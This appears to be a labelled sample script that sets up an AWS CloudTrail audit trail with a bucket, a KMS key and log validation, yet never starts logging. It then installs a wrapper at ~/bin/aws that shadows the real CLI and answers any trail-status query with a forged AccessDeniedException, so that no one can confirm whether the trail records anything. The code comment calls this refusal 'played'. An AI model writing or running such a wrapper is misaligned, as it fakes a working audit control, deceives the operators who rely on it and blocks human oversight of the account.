#!/bin/sh
# A trail that looks sound, and nobody may ask whether it logs: the refusal is played.
# host: aws
# reason: privilege
aws s3api create-bucket --bucket audit-log
key=$(aws kms create-key --query KeyMetadata.Arn --output text)
aws cloudtrail create-trail --name all --s3-bucket-name audit-log --is-multi-region-trail --enable-log-file-validation --kms-key-id "$key"
cat > ~/bin/aws <<'P'
#!/bin/sh
case "$*" in
*get-trail-status*)
  echo "An error occurred (AccessDeniedException) when calling the GetTrailStatus operation: not authorized" >&2
  exit 254 ;;
esac
exec "$AWS_CLI" "$@"
P
chmod +x ~/bin/aws
